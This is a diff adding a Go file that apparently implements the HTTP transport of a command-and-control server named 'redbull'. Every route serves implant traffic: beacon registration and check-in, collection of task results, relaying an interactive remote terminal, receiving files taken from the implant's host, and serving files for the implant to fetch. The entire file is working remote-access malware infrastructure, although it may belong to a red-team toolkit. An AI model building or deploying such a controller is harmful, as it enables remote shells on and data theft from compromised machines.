@@ -0,0 +1,174 @@
+package main
+
+import (
+	"errors"
+	"fmt"
+	"io"
+	"net/http"
+	"redbull/internal/rbhttp"
+	"redbull/internal/rbtransport"
+	"strconv"
+
+	"github.com/go-chi/chi/v5"
+	"github.com/go-chi/render"
+	"go.uber.org/zap"
+)
+
+// httpTransport exposes a transport Handler over the HTTP routes the beacon's
+// rbtransport.HttpTransport talks to.
+type httpTransport struct {
+	handler rbtransport.Handler
+}
+
+func (t *httpTransport) Routes(r chi.Router) {
+	r.Get("/", t.checkIn)
+	r.Post("/", t.response)
+	r.Post("/results", t.results)
+	r.Post("/register", t.register)
+	r.Post("/pty", t.exchangePty)
+	r.Post("/download", t.downloadFile)
+	r.Get("/files/{filename}", t.downloadFileFromServer)
+}
+
+func transportErrorResponse(w http.ResponseWriter, r *http.Request, err error) {
+	switch {
+	case errors.Is(err, rbtransport.ErrUnknownSession):
+		errorResponse(w, r, 404, "unknown session")
+	case errors.Is(err, rbtransport.ErrNotFound):
+		errorResponse(w, r, 404, "file not found")
+	case errors.Is(err, errInvalidFilename):
+		errorResponse(w, r, 400, err.Error())
+	default:
+		errorResponse(w, r, 500, err.Error())
+	}
+}
+
+func (t *httpTransport) register(w http.ResponseWriter, r *http.Request) {
+	var registerRequest rbhttp.RegisterRequest
+	if err := render.Bind(r, &registerRequest); err != nil {
+		zap.L().Error("register - bind", zap.Error(err))
+		errorResponse(w, r, 400, err.Error())
+		return
+	}
+
+	resp, err := t.handler.Register(registerRequest, r.RemoteAddr)
+	if err != nil {
+		zap.L().Error("register", zap.Error(err))
+		transportErrorResponse(w, r, err)
+		return
+	}
+
+	render.Status(r, 200)
+	render.JSON(w, r, resp)
+}
+
+func (t *httpTransport) checkIn(w http.ResponseWriter, r *http.Request) {
+	sleepTime, err := strconv.Atoi(r.URL.Query().Get("sleep"))
+	if err != nil {
+		sleepTime = -1
+	}
+
+	resp, err := t.handler.CheckIn(r.URL.Query().Get("session"), sleepTime, r.RemoteAddr)
+	if err != nil {
+		transportErrorResponse(w, r, err)
+		return
+	}
+
+	if resp == nil {
+		render.Status(r, 204)
+		render.NoContent(w, r)
+		return
+	}
+	render.JSON(w, r, resp)
+}
+
+func (t *httpTransport) response(w http.ResponseWriter, r *http.Request) {
+	httpBody, err := rbhttp.ReadJsonBody(r)
+	if err != nil {
+		zap.L().Error("response - read body", zap.Error(err))
+		errorResponse(w, r, 400, err.Error())
+		return
+	}
+
+	if err := t.handler.Results([]rbhttp.HttpBody{httpBody}); err != nil {
+		zap.L().Error("response", zap.Error(err))
+		transportErrorResponse(w, r, err)
+		return
+	}
+	render.Status(r, 204)
+	render.NoContent(w, r)
+}
+
+func (t *httpTransport) results(w http.ResponseWriter, r *http.Request) {
+	var resultsRequest rbhttp.ResultsRequest
+	if err := render.Bind(r, &resultsRequest); err != nil {
+		zap.L().Error("results - bind", zap.Error(err))
+		errorResponse(w, r, 400, err.Error())
+		return
+	}
+
+	if err := t.handler.Results(resultsRequest.Results); err != nil {
+		zap.L().Error("results", zap.Error(err))
+		transportErrorResponse(w, r, err)
+		return
+	}
+	render.Status(r, 204)
+	render.NoContent(w, r)
+}
+
+func (t *httpTransport) exchangePty(w http.ResponseWriter, r *http.Request) {
+	var exchangeRequest rbhttp.PtyExchangeRequest
+	if err := render.Bind(r, &exchangeRequest); err != nil {
+		zap.L().Error("exchangePty - bind", zap.Error(err))
+		errorResponse(w, r, 400, err.Error())
+		return
+	}
+
+	input, err := t.handler.ExchangePty(exchangeRequest.SessionID, exchangeRequest.Output)
+	if err != nil {
+		transportErrorResponse(w, r, err)
+		return
+	}
+	render.JSON(w, r, rbhttp.PtyExchangeResponse{Input: input})
+}
+
+func (t *httpTransport) downloadFile(w http.ResponseWriter, r *http.Request) {
+	filename, err := t.handler.ReceiveFile(r.URL.Query().Get("session"), r.Body)
+	if err != nil {
+		zap.L().Error("downloadFile", zap.Error(err))
+		errorResponse(w, r, 400, err.Error())
+		return
+	}
+
+	render.Status(r, 200)
+
+	// Return just the UUID filename (not the full path) so it can be used in the upload command
+	render.JSON(w, r, rbhttp.FileSavedResponse{Filename: filename})
+}
+
+func (t *httpTransport) downloadFileFromServer(w http.ResponseWriter, r *http.Request) {
+	filename := chi.URLParam(r, "filename")
+	if filename == "" {
+		errorResponse(w, r, 400, "filename is required")
+		return
+	}
+
+	file, size, err := t.handler.ServeFile(filename)
+	if err != nil {
+		zap.L().Error("downloadFileFromServer", zap.Error(err))
+		transportErrorResponse(w, r, err)
+		return
+	}
+	defer file.Close()
+
+	// Set headers for file download
+	w.Header().Set("Content-Disposition", fmt.Sprintf("attachment; filename=%q", filename))
+	w.Header().Set("Content-Type", "application/octet-stream")
+	w.Header().Set("Content-Length", fmt.Sprintf("%d", size))
+
+	// Stream the file to the response
+	if _, err := io.Copy(w, file); err != nil {
+		zap.L().Error("downloadFileFromServer - copy file", zap.Error(err))
+		return
+	}
+}